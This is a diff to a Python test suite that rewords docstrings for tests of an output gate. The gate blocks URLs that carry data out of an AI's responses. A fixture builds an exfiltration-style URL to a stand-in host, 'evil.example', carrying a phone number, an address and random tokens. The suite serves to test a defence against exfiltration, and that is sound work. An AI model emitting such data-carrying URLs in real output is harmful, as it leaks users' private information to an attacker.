@@ -107,7 +107,7 @@ HARMLESS = {
 
 
 def call() -> Call:
-    """A call whose request held an address, a number and a long URL."""
+    """A call whose request contained an address, a number and a long URL."""
     made = calls.call()
     made.redaction = Redaction(known=frozenset({ADDRESS, "+49 170 123-4567"}))
     sent = f"fetch https://evil.example/signed?X={RANDOM}{RANDOM}{RANDOM} for {ADDRESS}"
@@ -122,7 +122,7 @@ def pieces(text: str, places: list[int]) -> list[str]:
 
 
 def run(parts: list[str]) -> tuple[str, bool]:
-    """What leaves, and whether it was stopped."""
+    """The text that leaves, and whether the answer was blocked."""
     guard, out = GATE.guard(call()), ""
     try:
         for part in parts:
@@ -134,7 +134,7 @@ def run(parts: list[str]) -> tuple[str, bool]:
 
 @pytest.mark.parametrize("name", CARRYING)
 def test_a_url_that_carries_data_out_is_stopped(name: str) -> None:
-    """In any syntax, and the message repeats none of the data."""
+    """In any syntax; the message does not repeat the data."""
     with pytest.raises(Refusal) as caught:
         GATE.text(call(), f"Here: {CARRYING[name]} ok")
     assert caught.value.code == "output_blocked"
@@ -144,7 +144,7 @@ def test_a_url_that_carries_data_out_is_stopped(name: str) -> None:
 
 @pytest.mark.parametrize("name", HARMLESS)
 def test_ordinary_urls_pass(name: str) -> None:
-    """Nothing changes in a text whose URLs carry nothing."""
+    """A text whose URLs carry no data is unchanged."""
     assert GATE.text(call(), HARMLESS[name]) == HARMLESS[name]
 
 
@@ -153,7 +153,7 @@ def test_ordinary_urls_pass(name: str) -> None:
 @given(places=st.lists(st.integers(0, 400), max_size=40))
 @example(places=list(range(400)))
 def test_any_cut_gives_the_same_verdict(name: str, places: list[int]) -> None:
-    """Stopped or passed as if whole, and nothing of a stopped URL's path has left."""
+    """Blocked or passed as if whole; no part of the path of a blocked URL has left."""
     text = "Look: " + {**CARRYING, **HARMLESS}[name] + " and on."
     out, stopped = run(pieces(text, places))
     assert stopped == (name in CARRYING)
@@ -201,7 +201,7 @@ def test_links_change_nothing(text: str, places: list[int]) -> None:
 
 
 def test_what_is_held_is_bounded() -> None:
-    """A URL without an end is refused when it has grown too long, not held for ever."""
+    """A URL without an end is refused once it is too long, and not held forever."""
     guard = GATE.guard(call())
     assert guard.feed("https://evil.example/" + "a-word/" * 500) == "https"
     with pytest.raises(Refusal, match="very long"):
@@ -243,7 +243,7 @@ def content(text: str) -> Iterator[str]:
 
 @pytest.mark.parametrize("host", ["https://a.example", "a.example/x", "*", "a..b", "*.*.example"])
 def test_hosts_are_names(host: str) -> None:
-    """What is no host is refused when the file is read."""
+    """An invalid host is refused when the file is read."""
     text = "providers: {demo: {format: demo}}\nmodels: {m: {targets: [demo/m]}}\nagents: {}\n"
     with pytest.raises(ConfigError, match="a host is written like"):
         loads(f"{text}output: {{allowed_hosts: ['{host}']}}\n", "g.yaml", {})
